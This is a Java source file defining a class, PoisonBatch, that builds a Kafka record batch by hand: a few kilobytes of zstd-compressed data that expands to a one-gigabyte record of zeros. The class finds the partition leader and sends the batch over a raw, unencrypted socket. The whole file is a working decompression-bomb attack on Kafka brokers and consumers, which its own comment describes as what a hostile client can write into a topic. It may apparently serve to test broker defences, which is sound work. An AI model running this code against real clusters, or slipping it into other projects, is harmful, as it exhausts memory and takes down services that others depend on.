package dev.headwater.broker;

import java.io.DataInputStream;
import java.io.DataOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.net.Socket;
import java.nio.ByteBuffer;
import java.util.List;
import java.util.Objects;
import java.util.Properties;
import java.util.concurrent.TimeUnit;
import org.apache.kafka.clients.admin.Admin;
import org.apache.kafka.clients.admin.TopicDescription;
import org.apache.kafka.common.Node;
import org.apache.kafka.common.compress.Compression;
import org.apache.kafka.common.message.ProduceRequestData;
import org.apache.kafka.common.protocol.ApiKeys;
import org.apache.kafka.common.protocol.ByteBufferAccessor;
import org.apache.kafka.common.record.TimestampType;
import org.apache.kafka.common.record.internal.CompressionType;
import org.apache.kafka.common.record.internal.DefaultRecordBatch;
import org.apache.kafka.common.record.internal.MemoryRecords;
import org.apache.kafka.common.record.internal.RecordBatch;
import org.apache.kafka.common.requests.ProduceRequest;
import org.apache.kafka.common.requests.ProduceResponse;
import org.apache.kafka.common.requests.RequestHeader;
import org.apache.kafka.common.utils.ByteBufferOutputStream;
import org.apache.kafka.common.utils.ByteUtils;

/**
 * A batch of some kilobytes whose one record has a gigabyte of zeros: what a hostile client can put
 * into any topic that it may write. A client's producer would not make it, so it is written and
 * sent here, over a connection that is not encrypted. For one thread.
 */
public final class PoisonBatch {
  private static final int GIGABYTE = 1 << 30;
  private static final short PRODUCE_VERSION = 9;
  private static final int TIMEOUT_S = 30;

  private final Properties client;

  /** Makes one for the brokers that these settings of a client name. */
  public PoisonBatch(Properties client) {
    this.client = client;
  }

  /** Sends it to a partition and returns its length in bytes, as the broker took it. */
  public int send(String topic, int partition) throws Exception {
    MemoryRecords records = records();
    int bytes = records.sizeInBytes();
    ProduceRequestData data =
        new ProduceRequestData().setAcks((short) -1).setTimeoutMs(TIMEOUT_S * 1_000);
    data.topicData()
        .add(
            new ProduceRequestData.TopicProduceData()
                .setName(topic)
                .setPartitionData(
                    List.of(
                        new ProduceRequestData.PartitionProduceData()
                            .setIndex(partition)
                            .setRecords(records))));
    ByteBuffer request =
        new ProduceRequest(data, PRODUCE_VERSION)
            .serializeWithHeader(new RequestHeader(ApiKeys.PRODUCE, PRODUCE_VERSION, "poison", 1));
    short error = send(leader(topic, partition), request);
    if (error != 0) {
      throw new IOException("the broker refused the batch with error " + error);
    }
    return bytes;
  }

  private Node leader(String topic, int partition) throws Exception {
    try (Admin admin = Admin.create(client)) {
      TopicDescription found =
          admin
              .describeTopics(List.of(topic))
              .allTopicNames()
              .get(TIMEOUT_S, TimeUnit.SECONDS)
              .get(topic);
      return Objects.requireNonNull(found, topic).partitions().get(partition).leader();
    }
  }

  private static short send(Node broker, ByteBuffer request) throws IOException {
    try (Socket socket = new Socket(broker.host(), broker.port());
        DataOutputStream out = new DataOutputStream(socket.getOutputStream());
        DataInputStream in = new DataInputStream(socket.getInputStream())) {
      out.writeInt(request.remaining());
      out.write(request.array(), request.arrayOffset() + request.position(), request.remaining());
      out.flush();
      byte[] answer = in.readNBytes(in.readInt());
      ByteBuffer body = ByteBuffer.wrap(answer, 5, answer.length - 5).slice();
      return ProduceResponse.parse(new ByteBufferAccessor(body), PRODUCE_VERSION)
          .data()
          .responses()
          .iterator()
          .next()
          .partitionResponses()
          .get(0)
          .errorCode();
    }
  }

  private static MemoryRecords records() throws IOException {
    ByteBufferOutputStream bytes = new ByteBufferOutputStream(1 << 20);
    bytes.position(DefaultRecordBatch.RECORD_BATCH_OVERHEAD);
    try (OutputStream zipped =
            Compression.zstd().build().wrapForOutput(bytes, RecordBatch.CURRENT_MAGIC_VALUE);
        DataOutputStream out = new DataOutputStream(zipped)) {
      int body = 3 + 2 + ByteUtils.sizeOfVarint(GIGABYTE) + GIGABYTE + 1;
      ByteUtils.writeVarint(body, out);
      out.write(new byte[3]); // attributes, timestamp delta, offset delta
      ByteUtils.writeVarint(1, out);
      out.write('k');
      ByteUtils.writeVarint(GIGABYTE, out);
      byte[] zeros = new byte[1 << 20];
      for (int written = 0; written < GIGABYTE; written += zeros.length) {
        out.write(zeros);
      }
      ByteUtils.writeVarint(0, out); // headers
    }
    ByteBuffer buffer = bytes.buffer().flip();
    long now = System.currentTimeMillis();
    DefaultRecordBatch.writeHeader(
        buffer,
        0,
        0,
        buffer.limit(),
        RecordBatch.CURRENT_MAGIC_VALUE,
        CompressionType.ZSTD,
        TimestampType.CREATE_TIME,
        now,
        now,
        RecordBatch.NO_PRODUCER_ID,
        RecordBatch.NO_PRODUCER_EPOCH,
        RecordBatch.NO_SEQUENCE,
        false,
        false,
        false,
        RecordBatch.NO_PARTITION_LEADER_EPOCH,
        1);
    return MemoryRecords.readableRecords(buffer.position(0));
  }
}
